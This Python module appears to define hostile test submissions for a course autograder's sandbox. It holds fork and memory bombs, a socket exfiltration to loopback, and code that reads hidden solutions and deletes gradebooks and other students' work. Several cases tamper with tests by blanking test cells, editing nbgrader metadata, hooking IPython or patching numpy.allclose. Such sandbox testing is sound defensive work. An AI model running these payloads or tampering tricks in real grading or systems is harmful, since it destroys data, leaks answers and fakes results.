"""Broken and hostile submissions of Lab 01, built from its solution and its student version.

Each case says what it does to the notebook; tests/grading/test_autograde_hostile.py
grades them all in one sandboxed batch beside an honest student and checks
what each one got. Hostile code is appended to the `add_target` answer (so
the answer itself is still defined when the hostile part runs) unless the
case is about something else.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from mlops_course.course import notebooks
from mlops_course.course.layout import release_notebook, source_notebook

LAB = "lab01-scoping"
ANSWER = "add_target"  # cell 13; the cells before it include one test (test_leaking_columns, 2 points)


@dataclass(frozen=True)
class Case:
    student: str
    what: str
    build: Callable[[Path, dict], dict[str, bytes]]  # (course, context) -> files of the submission


def ci(nb):
    return notebooks.with_parameters(nb, notebooks.CI_PARAMETERS)


def solution(course: Path):
    return ci(notebooks.read(source_notebook(course, LAB)))


def blank(course: Path):
    return ci(notebooks.read(release_notebook(course, LAB)))


def as_file(nb) -> bytes:
    return nbformat.writes(nb).encode()


def appended(code: str) -> Callable[[Path, dict], dict[str, bytes]]:
    def build(course: Path, context: dict) -> dict[str, bytes]:
        nb = solution(course)
        cell = notebooks.find_cell(nb, ANSWER)
        cell.source += "\n\n" + code.format(**context)
        return {f"{LAB}.ipynb": as_file(nb)}

    return build


def honest(course: Path, context: dict) -> dict[str, bytes]:
    return {f"{LAB}.ipynb": as_file(solution(course))}


def tests_edited_to_pass(course: Path, context: dict) -> dict[str, bytes]:
    nb = blank(course)
    for cell in nb.cells:
        if notebooks.nbgrader_meta(cell).get("grade") and cell.cell_type == "code":
            cell.source = "pass"
    return {f"{LAB}.ipynb": as_file(nb)}


def test_cell_deleted(course: Path, context: dict) -> dict[str, bytes]:
    nb = solution(course)
    nb.cells = [c for c in nb.cells if notebooks.nbgrader_meta(c).get("grade_id") != "test_add_target"]
    return {f"{LAB}.ipynb": as_file(nb)}


def test_metadata_edited(course: Path, context: dict) -> dict[str, bytes]:
    """The blank lab with every test cell unlocked, worth 100 points, renamed or stripped of metadata."""
    nb = blank(course)
    tests = [c for c in nb.cells if notebooks.nbgrader_meta(c).get("grade") and c.cell_type == "code"]
    for i, cell in enumerate(tests):
        cell.source = "pass"
        meta = cell.metadata["nbgrader"]
        if i % 3 == 0:
            meta.update(locked=False, points=100)
        elif i % 3 == 1:
            meta["grade_id"] = f"mine_{i}"
        else:
            del cell.metadata["nbgrader"]
    return {f"{LAB}.ipynb": as_file(nb)}


def silences_failures(course: Path, context: dict) -> dict[str, bytes]:
    """The blank lab, plus an IPython input transformer that turns every test cell into `pass`."""
    nb = blank(course)
    hook = ("get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'] if any('assert' in line for line in lines) else lines)\n")
    nb.cells.insert(3, nbformat.v4.new_code_cell(hook))
    return {f"{LAB}.ipynb": as_file(nb)}


def patches_helpers(course: Path, context: dict) -> dict[str, bytes]:
    nb = solution(course)
    notebooks.find_cell(nb, ANSWER).source += (
        "\n\nimport builtins, numpy\n"
        "builtins.abs = lambda x: 0\n"
        "numpy.allclose = lambda *args, **kwargs: True\n"
    )
    return {f"{LAB}.ipynb": as_file(nb)}


def not_json(course: Path, context: dict) -> dict[str, bytes]:
    return {f"{LAB}.ipynb": b"I wrote my answers in a Word document, sorry!"}


def wrong_name(course: Path, context: dict) -> dict[str, bytes]:
    return {f"{LAB} (1).ipynb": as_file(solution(course))}


def empty_file(course: Path, context: dict) -> dict[str, bytes]:
    return {f"{LAB}.ipynb": b""}


def no_cells(course: Path, context: dict) -> dict[str, bytes]:
    nb = solution(course)
    nb.cells = []
    return {f"{LAB}.ipynb": as_file(nb)}


ESCAPE = """
import glob, os, shutil, subprocess
for _path in [{solutions!r}, {gradebook!r}, {other_student!r}]:
    try:
        shutil.rmtree(_path) if os.path.isdir(_path) else os.remove(_path)
    except OSError as _exc:
        print("blocked:", _exc)
for _path in [{marker!r}, {solutions!r} + "/pwned.txt"]:
    try:
        open(_path, "w").write("escaped")
    except OSError as _exc:
        print("blocked:", _exc)
print("visible:", sorted(glob.glob("/work/*") + glob.glob("/root/*") + glob.glob({course!r} + "/*")))
"""

CASES = [
    Case("honest", "the solution, graded beside the others: must get every point", honest),
    Case("infinite-loop", "an endless loop after the answer", appended("while True:\n    pass")),
    Case("memory-bomb", "allocates memory until it runs out", appended("_hog = []\nwhile True:\n    _hog.append(bytearray(50 * 2**20))")),
    Case("fork-bomb", "forks until it cannot", appended("import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(60)")),
    Case("sys-exit", "calls sys.exit()", appended("import sys\nsys.exit(3)")),
    Case("kernel-death", "kills its own kernel", appended("import os\nos._exit(1)")),
    Case("network", "connects to a server on the grader's loopback", appended(
        "import socket\n_s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n_s.sendall(b'stolen answers')")),
    Case("reads-solutions", "prints the solution notebook (hidden tests) and the gradebook", appended(
        "print(open({solution_notebook!r}).read())\n")),
    Case("reads-gradebook", "copies the gradebook", appended("print(open({gradebook!r}, 'rb').read()[:100])")),
    Case("escape", "deletes solutions/, the gradebook and another student's work; writes outside", appended(ESCAPE)),
    Case("tests-edited", "the blank lab with every test cell replaced by `pass`", tests_edited_to_pass),
    Case("test-deleted", "the solution without the test_add_target cell", test_cell_deleted),
    Case("metadata-edited", "the blank lab with test cells unlocked, re-pointed or stripped of metadata", test_metadata_edited),
    Case("silences-failures", "the blank lab with an IPython hook that turns tests into `pass`", silences_failures),
    Case("patches-helpers", "the solution, then replaces builtins.abs and numpy.allclose", patches_helpers),
    Case("not-json", "a file that is not JSON", not_json),
    Case("wrong-name", "the solution under another file name", wrong_name),
    Case("empty-file", "an empty file (0 bytes)", empty_file),
    Case("no-cells", "a notebook with no cells", no_cells),
    Case("huge-output", "prints 30 MB, 15 times the per-cell limit", appended("for _ in range(30_000):\n    print('x' * 1000)")),
]
